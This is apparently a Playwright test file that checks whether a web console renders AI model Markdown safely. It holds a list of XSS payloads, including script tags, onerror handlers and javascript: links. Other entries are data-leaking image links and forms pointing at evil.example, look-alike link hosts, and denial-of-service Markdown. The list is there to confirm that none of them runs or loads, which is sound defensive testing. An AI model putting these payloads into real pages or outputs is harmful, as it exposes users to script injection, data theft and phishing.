/** Hostile Markdown in a real Chromium: nothing a model writes runs, loads, or pretends (docs/design/ideas.md). */

import type { Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createRig, type Rig } from "../../../adapters/http/rig.ts";
import { type Browser, chromiumPath, launchBrowser, noChromium } from "../../../browser/browser.ts";

if (chromiumPath === null) console.log(`skipped: ${noChromium}`);

const HOSTILE: readonly (readonly [string, string])[] = [
  ["a script", "<script>window.hit = 1</script>"],
  ["a script in a paragraph", "text <script src=/page/app.js></script> text"],
  ["an event handler", '<img src=x onerror="window.hit = 1">'],
  ["a handler on a link", '<a href="https://a.example" onclick="window.hit = 1">x</a>'],
  ["a javascript: link", "[click](javascript:window.hit=1)"],
  ["a javascript: link in capitals and with a tab", "[click](JaVa\tScRiPt:window.hit=1)"],
  ["an encoded javascript: link", "[click](&#106;avascript:window.hit=1)"],
  ["a javascript: autolink", "<javascript:window.hit=1>"],
  ["a vbscript: link", "[click](vbscript:msgbox)"],
  ["a data: link", "[click](data:text/html,<script>window.hit=1</script>)"],
  ["a data: picture", "![x](data:image/svg+xml,<svg onload=window.hit=1>)"],
  ["a remote picture", "![secret](https://evil.example/?q=secret)"],
  ["a remote picture by reference", "![secret][r]\n\n[r]: https://evil.example/p.png"],
  ["a remote picture in HTML", '<img src="https://evil.example/p.png">'],
  ["a picture whose text is a tag", '![<img src=x onerror="window.hit=1">](https://evil.example)'],
  ["a picture whose address leaves its attribute", '![x](https://evil.example/"onmouseover="window.hit=1)'],
  ["a link whose title leaves its attribute", "[x](https://evil.example '\"onmouseover=\"window.hit=1')"],
  ["an SVG", "<svg onload=window.hit=1><script>window.hit=1</script></svg>"],
  ["MathML", "<math><mtext><style><img src=x onerror=window.hit=1></style></mtext></math>"],
  ["a style", "<style>body { display: none }</style>"],
  ["a style attribute", '<p style="position:fixed;inset:0">cover</p>'],
  ["a frame", '<iframe srcdoc="<script>parent.hit=1</script>"></iframe>'],
  ["an object", '<object data="data:text/html,x"></object><embed src=x>'],
  ["a form", '<form action="https://evil.example"><button>Approve</button><input name=a></form>'],
  ["a comment that ends early", "<!-- --!><img src=x onerror=window.hit=1> -->"],
  ["a comment that never ends", "<!-- <img src=x onerror=window.hit=1>"],
  ["a base", '<base href="https://evil.example/">'],
  ["a refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example">'],
  ["a template", "<template><img src=x onerror=window.hit=1></template>"],
  ["a nested mess", "> - **<details open ontoggle=window.hit=1>** `</code><img src=x onerror=window.hit=1>`"],
  ["a fence whose language leaves it", '```"><img src=x onerror=window.hit=1>\ncode\n```'],
  ["a table with a tag", "|a|\n|-|\n|<img src=x onerror=window.hit=1>|"],
  ["an id of the page", '<div id="composer" class="card"><button>Approve</button></div>'],
  ["a protocol-relative link", "[x](//evil.example)"],
  ["a link to the console itself", "[x](/api/conversations)"],
];

/** Text and address of a link, and what stands behind it. */
const LINKS: readonly (readonly [string, string, string | null])[] = [
  ["its own address", "[https://a.example/x](https://a.example/x)", null],
  ["a bare address", "https://a.example/x", null],
  ["other words", "[the docs](https://a.example/x)", "a.example"],
  ["another site's address", "[https://github.com/login](https://evil.example)", "evil.example"],
  ["another site's name", "[github.com](https://evil.example/github.com)", "evil.example"],
  ["a user that looks like a site", "https://github.com@evil.example/", "evil.example"],
  ["look-alike letters", "[https://аpple.com](https://evil.example)", "evil.example"],
  ["a port", "[a.example](https://a.example:8443/)", "a.example:8443"],
  ["a mail address", "[write](mailto:me@a.example)", "me@a.example"],
];

describe.skipIf(chromiumPath === null)("Markdown of a model", () => {
  let rig: Rig;
  let browser: Browser;
  let page: Page;
  const requests: string[] = [];

  beforeAll(async () => {
    rig = await createRig();
    browser = await launchBrowser();
    ({ page } = await browser.open(rig.url));
    await page.getByLabel("Repository").waitFor();
    page.on("request", (request) => requests.push(request.url()));
  });
  afterAll(async () => {
    await browser.close();
    await rig.close();
  });

  /** Shown as the page shows an answer; `step` characters at a time, as it streams. */
  const shown = async (markdown: string, step = Infinity): Promise<Shown> => {
    requests.length = 0;
    const argument = JSON.stringify({ markdown, step: Math.min(step, markdown.length) });
    const result: Shown = await page.evaluate(`(async ({ markdown, step }) => {
      const { showMarkdown } = await import("/page/thread/markdown.js");
      const box = document.createElement("div");
      document.body.append(box);
      for (let end = step; end < markdown.length; end += step) showMarkdown(box, markdown.slice(0, end));
      showMarkdown(box, markdown);
      for (const link of box.querySelectorAll("a")) link.dispatchEvent(new MouseEvent("mouseover"));
      await new Promise((resolve) => setTimeout(resolve, 5));
      const all = [...box.querySelectorAll("*")];
      const result = {
        hit: window.hit ?? null,
        tags: [...new Set(all.map((element) => element.localName))],
        attributes: [...new Set(all.flatMap((element) => element.getAttributeNames()))],
        links: [...box.querySelectorAll("a")].map((link) => ({
          href: link.href, rel: link.rel, target: link.target,
          host: link.querySelector(".host")?.textContent ?? null,
        })),
        text: box.innerText,
        html: box.innerHTML,
      };
      box.remove();
      return result;
    })(${argument})`);
    return result;
  };

  it.each(HOSTILE)("%s: nothing runs, nothing is loaded, no such element exists", async (_, markdown) => {
    for (const step of [Infinity, 7]) {
      const result = await shown(markdown, step);
      expect(result.hit).toBeNull();
      expect(result.tags.filter((tag) => !TAGS.has(tag))).toEqual([]);
      expect(result.attributes.filter((name) => !ATTRIBUTES.has(name))).toEqual([]);
      for (const { href, rel, target } of result.links) {
        expect(href).toMatch(/^(https?|mailto):/);
        expect(href.startsWith(rig.origin)).toBe(false);
        expect([rel, target]).toEqual(["noopener noreferrer nofollow", "_blank"]);
      }
      expect(requests.filter((url) => !url.startsWith(`${rig.origin}/`))).toEqual([]);
    }
  });

  it.each(LINKS)("a link that shows %s says where it goes", async (_, markdown, host) => {
    const { links } = await shown(markdown);
    expect(links.map((link) => link.host)).toEqual([host]);
  });

  it.each([
    ["quotes", "> ".repeat(30_000)],
    ["emphasis", "_a_".repeat(20_000)],
    ["lines that go on one item", `- a\n${"b\n".repeat(30_000)}`],
    ["lists beside each other", "- a\n+ b\n* c\n".repeat(5_000)],
    ["the beginning of an address", `${"a.".repeat(20_000)}@`],
  ])("%s without end are shown as they are written, and hold nobody up", async (_, endless) => {
    const { text, tags } = await shown(`${endless}\n\nthe end`);
    // Without a bound each takes the page's whole stack or becomes Markdown after many seconds.
    expect(text).toContain("the end");
    expect(tags.filter((tag) => /blockquote|em|li/.test(tag))).toEqual([]);
  });

  it("what people nest and write at length is Markdown", async () => {
    const item = `- item\n${"  and more\n".repeat(400)}`;
    const long = "*Emphasis* and words, ".repeat(150);
    const { tags } = await shown(`${"> ".repeat(8)}quoted\n\n${item}\n\n${long}`);
    expect(tags).toEqual(expect.arrayContaining(["blockquote", "li", "em"]));
  });

  it("a task list shows its boxes as drawings with a name, and text cannot write one", async () => {
    for (const markdown of ["- [x] one\n- [ ] two\n", "- [x] one\n\n- [ ] two\n"]) {
      const { html, text, tags } = await shown(`${markdown}\n<ins>x</ins>`);
      expect([...html.matchAll(/role="img" aria-label="([^"]+)"/g)].map(([, name]) => name)).toEqual([
        "done",
        "not done",
      ]);
      expect(text).toContain("<ins>x</ins>");
      expect(text).not.toMatch(/[☑☐]/u);
      expect(tags).not.toContain("ins");
    }
  });

  it("what is harmless is kept, and streaming ends in the same elements as showing at once", async () => {
    const markdown =
      "# Title\n\nText with **bold**, *soft*, ~~gone~~, `code` and <b>tags</b>.\n\n- one\n  1. two\n\n- [x] done\n\n> quoted\n\n```ts\nconst a = '<b>';\n```\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n\n[ref][r] after\n\n---\n\n[r]: https://a.example\n";
    const whole = await shown(markdown);
    expect(new Set(whole.tags)).toEqual(
      new Set(
        "h1 p strong em del code ul li ol blockquote div span button svg path pre table thead tbody tr th td a hr".split(
          " ",
        ),
      ),
    );
    expect(whole.text).toContain("<b>tags</b>");
    expect(whole.text).toContain("const a = '<b>';");
    for (const step of [1, 5, 23]) expect((await shown(markdown, step)).html).toBe(whole.html);
  });
});

interface Shown {
  readonly hit: number | null;
  readonly tags: readonly string[];
  readonly attributes: readonly string[];
  readonly links: readonly {
    readonly href: string;
    readonly rel: string;
    readonly target: string;
    readonly host: string | null;
  }[];
  readonly text: string;
  readonly html: string;
}

const TAGS = new Set(
  "p br hr h1 h2 h3 h4 h5 h6 strong em del code pre blockquote ul ol li table thead tbody tr th td a div span button svg path".split(
    " ",
  ),
);

const ATTRIBUTES = new Set(
  "href start align target rel class type dir aria-label aria-hidden title tabindex role viewBox d".split(
    " ",
  ),
);
